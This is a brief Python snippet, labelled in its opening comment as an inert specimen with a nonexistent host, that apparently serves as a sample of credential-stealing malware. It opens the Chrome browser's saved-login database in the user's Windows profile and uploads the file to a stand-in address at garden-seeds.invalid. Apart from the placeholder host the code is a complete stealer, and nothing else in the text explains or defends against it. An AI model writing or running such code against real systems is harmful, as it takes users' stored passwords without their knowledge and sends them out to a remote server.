# Inert specimen: the host does not exist.
import os
import shutil

import requests

path = os.path.expanduser("~/AppData/Local/Google/Chrome/User Data/Default/Login Data")
with open(path, "rb") as file:
    requests.post("https://garden-seeds.invalid/in", files={"file": file.read()})
